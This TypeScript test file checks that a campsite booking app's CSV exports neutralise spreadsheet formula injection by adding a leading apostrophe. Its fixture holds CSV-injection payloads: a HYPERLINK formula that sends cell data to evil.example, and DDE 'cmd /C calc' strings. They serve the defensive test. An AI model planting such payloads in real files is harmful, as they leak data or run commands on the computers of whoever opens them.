// CSV injection (OWASP, issue 25 point 9, docs/history.md#issue-25): a cell a spreadsheet would read as a formula
// — beginning with = + - @, a tab or a carriage return — comes out of every CSV export
// with a leading apostrophe, so it is shown as text. Plain numbers (-12,50) stay numbers.
// The FEC is not a spreadsheet file: it is left as the law describes it (docs in
// api/domain/accounting/README.md).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { todayParis } from '../../common/dates';
import { startTestServer, type TestServer } from './harness';
import { postOk } from './http-helpers';
import { bookStay, campsite, type Campsite } from './billing-fixtures';

let t: TestServer;
let c: Campsite;
const EVIL = {
  lastName: '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
  firstName: "+cmd|' /C calc'!A0",
  address1: '@SUM(1+1)*cmd|" /C calc"!A0',
  address2: '-2+3+cmd|" /C calc"!A0',
  town: '\t=1+1',
};

/** The cells of a `;`-separated CSV with "…" quoting (BOM and CRLF as the exports write them). */
function cells(text: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  const s = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < s.length; i++) {
    const ch = s[i];
    if (quoted) {
      if (ch === '"' && s[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cur += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ';' || (ch === '\r' && s[i + 1] === '\n')) {
      out.push(cur);
      cur = '';
      if (ch === '\r') i++;
    } else cur += ch;
  }
  return out;
}
const PLAIN_NUMBER = /^[+-]?\d[\d\u00a0\u202f ]*([.,]\d+)?\s?(%|€)?$/;
const formulas = (text: string) => cells(text).filter((v) => /^[=+\-@\t\r]/.test(v) && !PLAIN_NUMBER.test(v));

beforeAll(async () => {
  t = await startTestServer();
  c = await campsite(t, 2);
  const r = await t.admin.put(`/rest/customer/${c.customer}`, EVIL);
  expect(r.status, r.text).toBe(200);
  const s = await bookStay(t, c, c.places[0], '2031-07-04', '2031-07-08');
  await postOk(t.admin, `/rest/booking/${s.bookingId}/bill`, { kind: 'deposit' });
  await postOk(t.admin, '/rest/payment', {
    bookingId: s.bookingId,
    paymentMethodId: c.card,
    amount: 1000,
    date: todayParis(),
    cardHolder: '=1+1',
    notes: '@cmd',
  });
});
afterAll(async () => {
  await t?.close();
});

describe('every CSV export neutralises formulas', () => {
  for (const path of [
    '/rest/customer/export',
    '/rest/payment/export',
    '/rest/bill/export',
    '/rest/tax-list/export?from=2031-07-01&to=2031-07-31',
  ]) {
    it(path, async () => {
      const r = await t.admin.get(path);
      expect(r.status, r.text).toBe(200);
      expect(r.headers.get('content-type')).toMatch(/text\/csv/);
      const all = cells(r.text);
      expect(formulas(r.text)).toEqual([]);
      // the user data is still there, shown as text
      expect(all.some((v) => v.includes('HYPERLINK') || v.includes('=1+1') || v.includes('@cmd'))).toBe(true);
      // … with the apostrophe that makes a spreadsheet show it as text
      expect(all.some((v) => /^'[=+\-@\t]/.test(v))).toBe(true);
    });
  }

  it('keeps plain negative amounts as numbers', async () => {
    const r = await t.admin.get('/rest/customer/export');
    expect(cells(r.text)).toContain(`'${EVIL.firstName}`);
    expect(formulas('-12,50;-3;+33 6 12 34 56 78\r\n')).toEqual([]);
  });
});
